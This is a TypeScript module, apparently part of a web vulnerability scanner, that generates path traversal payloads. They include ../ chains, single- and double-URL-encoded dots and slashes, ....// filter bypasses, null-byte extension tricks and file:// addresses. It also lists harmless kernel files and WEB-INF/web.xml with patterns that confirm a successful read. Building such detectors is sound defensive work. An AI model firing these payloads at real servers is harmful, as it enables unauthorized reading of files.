/** Ways out of a folder, and what has to stand at their end. */

/** Deeper than applications lie: where one lies deeper still, the way ends in a folder that is not there. */
const LEVELS = 12
const UP = '../'.repeat(LEVELS)
/** As deep as nearly all lie: short enough for values that are cut. */
const SHORT = '../'.repeat(8)

/** Ways to a file of the machine. `path` begins with a slash. */
export const PATHS: readonly {
  readonly flavour: string
  /** 'deep': only where the value or the name speaks of files; 'apart': then, too, but not in a group of headers and cookies. */
  readonly tried: 'always' | 'deep' | 'apart'
  /** In a query its dots are encoded as well: what looks for two of them before it decodes sees none. */
  readonly encoded?: true
  readonly with: (v: string, path: string) => string
}[] = [
  // Begins at the root and behind any folder alike.
  { flavour: '/../', tried: 'always', with: (_v, path) => `/${UP}${path.slice(1)}` },
  { flavour: 'file address', tried: 'always', with: (_v, path) => `file://${path}` },
  { flavour: 'path from the root', tried: 'deep', with: (_v, path) => path },
  { flavour: '../', tried: 'deep', with: (_v, path) => `${SHORT}${path.slice(1)}` },
  { flavour: '../ behind the value', tried: 'apart', with: (v, path) => `${v}/${UP}${path.slice(1)}` },
  {
    flavour: '../ behind its folder',
    tried: 'apart',
    with: (v, path) => `${v.replace(/[^/]*$/, '')}${UP}${path.slice(1)}`,
  },
  {
    // In front of it stands a folder, or nothing: a slash more serves both.
    flavour: '….//, for filters that cut once',
    tried: 'apart',
    with: (_v, path) => `/${'....//'.repeat(LEVELS)}${path.slice(1)}`,
  },
  {
    flavour: '../ encoded twice',
    tried: 'apart',
    // Its dots as well: what looks for two of them decodes once.
    with: (_v, path) => `${'%2e%2e%2f'.repeat(LEVELS)}${path.slice(1).replaceAll('/', '%2f')}`,
  },
  {
    flavour: '../ with encoded dots',
    tried: 'apart',
    encoded: true,
    with: (_v, path) => `${SHORT}${path.slice(1)}`,
  },
  {
    // To what is written in C the name ends there; the ending that is asked for, or put behind, comes after.
    flavour: '../, its ending behind a null byte',
    tried: 'apart',
    with: (v, path) => `/${UP}${path.slice(1)}\0${/\.\w{1,5}$/.exec(v)?.[0] ?? '.html'}`,
  },
]

/**
 * Ways out of a folder whose files a server hands out by the path of a request. `folder` ends with a slash, `path` begins with one; the
 * target is sent as it is (RFC 9112, 3.2.1).
 */
export const OUT_OF_FOLDERS: readonly {
  readonly flavour: string
  readonly target: (folder: string, path: string) => string
}[] = [
  // Clients resolve these before they send; what reads the path of the request line never saw them.
  { flavour: '../ in the path', target: (folder, path) => `${folder}${UP}${path.slice(1)}` },
  { flavour: '..%2f in the path', target: encodedWith('..%2f') },
  { flavour: '%2e%2e/ in the path', target: encodedWith('%2e%2e/') },
  { flavour: '%2e%2e%2f in the path', target: encodedWith('%2e%2e%2f') },
  // What looks for two points alone before it decodes.
  { flavour: '.%2e/ in the path', target: encodedWith('.%2e/') },
  // What cuts `..` between slashes, and takes backslashes for slashes afterwards.
  { flavour: '..%5c in the path', target: encodedWith('..%5c') },
  { flavour: '..%252f in the path', target: encodedWith('..%252f') },
  { flavour: '%252e%252e/ in the path', target: encodedWith('%252e%252e/') },
  // What takes `../` out once leaves one behind.
  { flavour: '....// in the path', target: (folder, path) => `${folder}${'....//'.repeat(LEVELS)}${path.slice(1)}` },
  // Joined with a folder as a path of its own, it begins at the root.
  { flavour: 'path from the root in the path', target: (folder, path) => `${folder}${path}` },
]

/** Slashes behind it are written as it writes its own. */
function encodedWith(up: string): (folder: string, path: string) => string {
  const slash = /%(?:25)?(?:2f|5c)$/.exec(up)?.[0] ?? '/'
  return (folder, path) => `${folder}${up.repeat(LEVELS)}${path.slice(1).replaceAll('/', slash)}`
}

export interface Landmark {
  readonly path: string
  readonly shows: RegExp
}

/**
 * Everyone may read these, and they tell no more than which system it is. They are the kernel's own (proc(5)): whatever the
 * place does with a name, nobody can write, empty, rename or delete them, root included, nor make a file beside them, as
 * NO_FILE would be.
 */
export const FILES: readonly Landmark[] = [
  { path: '/proc/version', shows: /Linux version \d+\.\d+[^\n]{0,80}/ },
  // Answers of JSON, and those that show a text as a program writes it, have a tab by its escape.
  {
    path: '/proc/filesystems',
    shows: /\bnodev(?:\s|\\t|\\u0009|&#(?:9|x9);)+(?:sysfs|proc|tmpfs|devtmpfs|cgroup2?)\b/,
  },
]
export const NO_FILE = '/proc/versioq'

/**
 * A file of the kernel's that has a length: those of proc(5) say that they have none, and what sends by the length of a file sends nothing of
 * them. It holds notes of an ELF file (elf(5)), first the id of the build, named GNU; nobody can write, empty or rename it either. Asked for
 * twice, as there is no second such file that is short.
 */
export const SIZED: Landmark & { readonly none: string } = {
  path: '/sys/kernel/notes',
  none: '/sys/kernel/notet',
  shows: noteOf('GNU'),
}

/**
 * Texts of the kernel's that have a length (sysfs(5)), for parsers that ask for it before they read: what is done about two flaws of processors. Nobody can
 * write to them, and they have no sign of markup.
 */
export const TEXTS: readonly Landmark[] = [
  { path: '/sys/devices/system/cpu/vulnerabilities/spectre_v1', shows: /__user pointer sanitization/ },
  {
    path: '/sys/devices/system/cpu/vulnerabilities/spectre_v2',
    shows: /Mitigation: [^\n]{0,200}\b(?:Retpolines|IBRS|IBPB|CSV2|BHB|BHI)\b/,
  },
]
export const NO_TEXT = '/sys/devices/system/cpu/vulnerabilities/spectre_vq'

/** Behind the flavour of a way that was proven by that file: the way is the same. */
export const BY_LENGTH = ', sent by its length'

/** The head of a note of an id of 20 octets, in either order of octets, and its name. */
function noteOf(name: string): RegExp {
  const numbers = [name.length + 1, 20, 3].map((number) => String.fromCharCode(number))
  const little = numbers.map((number) => `${number}\0\0\0`).join('')
  const big = numbers.map((number) => `\0\0\0${number}`).join('')
  return new RegExp(`(?:${little}|${big})${name}\0`)
}

/**
 * Folders of the kernel's, by names that stand in no other: for what lists a folder. Entities of Java do, and cannot read the kernel's
 * files, of which they ask the length first (JDK 17).
 */
export const FOLDERS: readonly Landmark[] = [
  { path: '/proc/sys/kernel', shows: /\bthreads-max\b/ },
  { path: '/proc/sys/vm', shows: /\bovercommit_memory\b/ },
]
export const NO_FOLDER = '/proc/sys/kerneq'
/** A name in them that is none: what finds no such file may list the folder it looked in. */
export const noneIn = (folder: string): string => `${folder}/qz`

/**
 * The description of a Java application, which no container hands out: for what opens files of the application and not of
 * the machine (Servlet 6.0, 10.5). A file like others, so it is named only where it has shown that the place reads.
 */
export const DESCRIPTION: Landmark & { readonly none: string } = {
  path: 'WEB-INF/web.xml',
  none: 'WEB-INF/web.xmq',
  shows: /<web-app\b[^>]{0,200}/,
}

/** From the folder of a page up to where the application begins, and likewise for filters that cut once. */
export const upwards = (levels: number): readonly string[] => [
  `/${'../'.repeat(levels)}`,
  ...(levels > 0 ? [`/${'....//'.repeat(levels)}`] : []),
]
